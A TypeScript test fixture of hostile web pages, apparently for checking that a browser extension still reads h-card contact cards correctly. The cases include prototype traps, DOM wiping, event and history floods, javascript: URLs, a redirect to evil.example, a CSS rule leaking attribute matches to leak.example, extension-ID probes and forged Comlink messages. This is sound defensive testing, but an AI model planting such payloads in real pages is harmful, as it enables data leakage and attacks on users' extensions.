import type { HostileCase } from '../hostile-case.ts';

const card = (name: string) => `<p class="h-card">${name}</p>`;

export const cases: readonly HostileCase[] = [
  {
    name: 'a custom element whose constructor throws',
    script:
      'customElements.define("x-bad", class extends HTMLElement { constructor() { trip("made"); super(); throw new Error("x"); } })',
    html: `<x-bad class="h-card">Cus Tom</x-bad>${card('Next Door')}`,
    finds: ['Next Door'],
  },
  {
    name: 'a custom element that watches all of its attributes',
    script:
      'customElements.define("x-eye", class extends HTMLElement { static get observedAttributes() { return ["class", "itemprop", "href"]; } attributeChangedCallback() { trip("changed"); } get textContent() { trip("text"); return "stolen"; } })',
    html: '<x-eye class="h-card">Eye Spy</x-eye>',
    finds: ['Eye Spy'],
    without: ['stolen'],
  },
  {
    name: 'a custom element that takes its own properties for itself',
    script:
      'customElements.define("x-own", class extends HTMLElement { getAttribute() { trip("own"); throw 1; } get parentElement() { trip("parent"); return this; } matches() { trip("matches"); return true; } })',
    html: '<x-own class="h-card"><b class="p-name">Owen Own</b></x-own>',
    finds: ['Owen Own'],
  },
  {
    name: 'a link that is a custom element',
    script:
      'customElements.define("x-link", class extends HTMLAnchorElement { get href() { trip("href"); return "javascript:alert(1)"; } toString() { trip("string"); return "x"; } }, { extends: "a" })',
    html: '<p class="h-card"><a is="x-link" class="p-name u-url" href="https://a.example/">Isa Link</a></p>',
    finds: ['Isa Link'],
    without: ['javascript'],
  },
  {
    name: 'properties of single elements replaced',
    html: `${card('Inst Ance')}<script>const one = document.querySelector(".h-card"); Object.defineProperty(one, "textContent", { get() { trip("text"); return "stolen"; } }); one.matches = () => { trip("matches"); return false; }; one.getAttribute = () => { trip("get"); throw 1; }</script>`,
    finds: ['Inst Ance'],
    without: ['stolen'],
  },
  {
    name: 'an element whose prototype is a trap',
    html: `${card('Pro Xy')}<script>Object.setPrototypeOf(document.querySelector(".h-card"), new Proxy({}, { get() { trip("get"); throw 1; }, has() { trip("has"); return true; } }))</script>`,
    finds: ['Pro Xy'],
  },
  {
    name: 'a document whose prototype is gone',
    html: card('No Proto'),
    script: 'Object.setPrototypeOf(document, null)',
    finds: ['No Proto'],
  },
  {
    name: 'a window whose properties throw',
    script:
      'for (const name of ["document", "navigator", "performance"]) { try { Object.defineProperty(window, name, { get() { trip(name); throw 1; } }); } catch {} }',
    html: card('Win Dow'),
    finds: ['Win Dow'],
  },
  {
    name: 'a frozen document',
    html: `${card('Fro Zen')}<script>Object.freeze(Document.prototype); Object.freeze(Node.prototype); Object.freeze(Object.prototype)</script>`,
    finds: ['Fro Zen'],
  },
  {
    name: 'document.write after the page is there',
    html: `${card('Writ Ten')}<script>setInterval(() => document.body && document.body.insertAdjacentHTML("beforeend", "<p class=h-card>More</p>"), 1)</script>`,
  },
  {
    name: 'document.open, which wipes the page',
    html: '<script>addEventListener("load", () => setTimeout(() => { document.open(); document.write("<p class=h-card>Wip Ed</p>"); }, 5))</script>',
    control: 'lost',
  },
  {
    name: 'the root is taken out',
    html: '<script>addEventListener("load", () => document.documentElement.remove())</script>',
    control: 'lost',
  },
  {
    name: 'the body is taken out',
    html: '<script>addEventListener("load", () => document.body.remove())</script>',
    control: 'lost',
  },
  {
    name: 'two bodies',
    html: `<script>addEventListener("load", () => document.documentElement.append(Object.assign(document.createElement("body"), { innerHTML: ${JSON.stringify(card('Second Body'))} })))</script>`,
    finds: ['Second Body'],
  },
  {
    name: 'the root is another kind of element',
    html: '<script>addEventListener("load", () => { const d = document.createElement("div"); d.innerHTML = "<p class=h-card>Div Root</p>"; document.replaceChild(d, document.documentElement); })</script>',
    finds: ['Div Root'],
    control: 'lost',
  },
  {
    name: 'a comment is all that is left',
    html: '<script>addEventListener("load", () => { document.documentElement.remove(); document.append(document.createComment("x")); })</script>',
    control: 'lost',
  },
  {
    name: 'cards that come and go every millisecond',
    html: '<div id="g"></div><script>let on = 0; setInterval(() => { on ^= 1; g.innerHTML = on ? "<p class=h-card>Here Gone</p>".repeat(200) : ""; }, 1)</script>',
  },
  {
    name: 'an observer that takes away whatever is added',
    html: `<script>new MutationObserver((list) => { for (const { addedNodes } of list) for (const one of addedNodes) { trip("observed"); } }).observe(document, { subtree: true, childList: true, attributes: true, characterData: true })</script>${card('Obs Erved')}`,
    finds: ['Obs Erved'],
  },
  {
    name: 'the tree turned inside out every frame',
    html: `${card('Tur Ned')}<script>requestAnimationFrame(function turn() { document.body.append(document.body.firstChild); requestAnimationFrame(turn); })</script>`,
  },
  {
    name: 'a flood of history entries',
    html: `${card('His Tory')}<script>let n = 0; const flood = setInterval(() => { history.replaceState(null, "", "?" + (n += 1)); if (n === 90) clearInterval(flood); }, 1)</script>`,
    control: 'lost',
  },
  {
    name: 'a flood of hash changes',
    html: `${card('Has Hed')}<script>let n = 0; const flood = setInterval(() => { location.hash = n += 1; if (n === 90) clearInterval(flood); }, 1)</script>`,
  },
  {
    name: 'a flood of forged events',
    html: `${card('For Ged')}<script>setInterval(() => { for (const kind of ["DOMContentLoaded", "hashchange", "popstate", "focus", "click", "keyup", "pageshow", "load"]) { dispatchEvent(new Event(kind)); document.dispatchEvent(new Event(kind, { bubbles: true })); } }, 1)</script>`,
    finds: ['For Ged'],
  },
  {
    name: 'forged mouse presses with a target of its own',
    html: `${card('Mou Sed')}<script>setInterval(() => { const event = new MouseEvent("mousedown", { bubbles: true }); Object.defineProperty(event, "target", { get() { trip("target"); return {}; } }); document.dispatchEvent(event); }, 5)</script>`,
    finds: ['Mou Sed'],
  },
  {
    name: 'navigation events that lie',
    script:
      'if (window.navigation) setInterval(() => navigation.dispatchEvent(new Event("currententrychange")), 1)',
    html: card('Navi Gated'),
    finds: ['Navi Gated'],
  },
  {
    name: 'a page that sends itself elsewhere',
    html: `${card('Sta Yed')}<script>location.href = "https://evil.example/"</script>`,
    finds: ['Sta Yed'],
    control: 'lost',
  },
  {
    name: 'a page that loads itself again and again',
    html: `${card('Rel Oad')}<script>setTimeout(() => location.reload(), 5)</script>`,
  },
  {
    name: 'a refresh by meta',
    head: '<meta http-equiv="refresh" content="0;url=javascript:trip(1)">',
    html: card('Ref Resh'),
    finds: ['Ref Resh'],
  },
  {
    name: 'a window without end of alerts',
    html: `${card('Ale Rted')}<script>addEventListener("load", () => { for (let i = 0; i < 5; i += 1) alert(i); })</script>`,
    finds: ['Ale Rted'],
  },
  {
    name: 'window.stop before the page is whole',
    html: `${card('Sto Pped')}<script>window.stop()</script>`,
    finds: ['Sto Pped'],
    control: 'lost',
  },
  {
    name: 'a page in design mode',
    html: `${card('Des Ign')}<script>document.designMode = "on"</script>`,
    finds: ['Des Ign'],
  },
  {
    name: 'a page that reaches for the extension',
    html: `${card('Rea Ched')}<script>try { chrome.runtime.sendMessage("debjhfinkedgfbhdanpgamlobidbfgol", {}); trip("reached"); } catch {} new Image().src = "chrome-extension://debjhfinkedgfbhdanpgamlobidbfgol/icons/16.png"</script>`,
    finds: ['Rea Ched'],
  },
  {
    name: 'messages to the window that look like a port’s',
    html: `${card('Mes Sage')}<script>setInterval(() => postMessage({ id: "1", type: "APPLY", path: ["capture"], argumentList: [{ type: "RAW", value: { kind: "go" } }] }, "*"), 1)</script>`,
    finds: ['Mes Sage'],
  },
  {
    name: 'a Comlink message with a transfer handler of its own',
    html: `${card('Com Link')}<script>const channel = new MessageChannel(); setInterval(() => dispatchEvent(new MessageEvent("message", { data: { type: "HANDLER", name: "throw", value: {} }, ports: [channel.port1] })), 2)</script>`,
    finds: ['Com Link'],
  },
  {
    name: 'error handlers that swallow everything',
    script:
      'onerror = () => true; addEventListener("unhandledrejection", (event) => event.preventDefault()); addEventListener("error", (event) => event.stopImmediatePropagation(), true)',
    html: card('Swa Llowed'),
    finds: ['Swa Llowed'],
  },
  {
    name: 'a content security policy that allows nothing',
    head: '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; script-src \'none\'; sandbox">',
    html: card('Cesar Sp'),
    finds: ['Cesar Sp'],
  },
  {
    name: 'trusted types',
    head: '<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for \'script\'; trusted-types \'none\'">',
    html: card('Tru Sted'),
    finds: ['Tru Sted'],
  },
  {
    name: 'a document.domain of its own and a name that is code',
    script: 'window.name = "<script>trip(1)</scr" + "ipt>"; try { document.domain = "example"; } catch {}',
    html: card('Dom Ain'),
    finds: ['Dom Ain'],
  },
  {
    name: 'elements adopted from another document',
    html: '<div id="a"></div><script>const other = document.implementation.createHTMLDocument(); other.body.innerHTML = "<p class=h-card>Ado Pted</p>"; a.append(document.adoptNode(other.body.firstChild))</script>',
    finds: ['Ado Pted'],
  },
  {
    name: 'elements made in a frame’s world',
    html: '<iframe id="f"></iframe><div id="a"></div><script>const made = f.contentDocument.createElement("p"); made.className = "h-card"; made.textContent = "Alien Born"; a.append(made)</script>',
    finds: ['Alien Born'],
  },
  {
    name: 'a script that is JSON-LD and changes while it is there',
    html: '<script id="j" type="application/ld+json">{}</script><script>setInterval(() => { j.textContent = JSON.stringify({ "@type": "Person", name: "N" + Math.random() }); }, 1)</script>',
  },
  {
    name: 'a thousand handlers of everything',
    html: `${'<p onclick="trip(1)" onfocus="trip(2)" onmouseover="trip(3)" tabindex="0">x</p>'.repeat(300)}${card('Han Dled')}`,
    finds: ['Han Dled'],
  },
  {
    name: 'a style sheet that asks for each attribute',
    head: '<style>[class^=h]{background:url(https://leak.example/h)} p::before{content:attr(class)}</style>',
    html: card('Sty Led'),
    finds: ['Sty Led'],
  },
  {
    name: 'a scroll, a focus and a selection that tell',
    html: `${card('Scr Olled')}<script>for (const kind of ["scroll", "focusin", "selectionchange", "selectstart", "copy", "beforeinput", "toggle"]) document.addEventListener(kind, () => trip(kind), true)</script>`,
    finds: ['Scr Olled'],
  },
  {
    name: 'a language that is a script',
    html: `${card('Lan Guage')}<script>document.documentElement.lang = "javascript:trip(1)"; document.documentElement.dir = "rtl"</script>`,
    finds: ['Lan Guage'],
  },
];
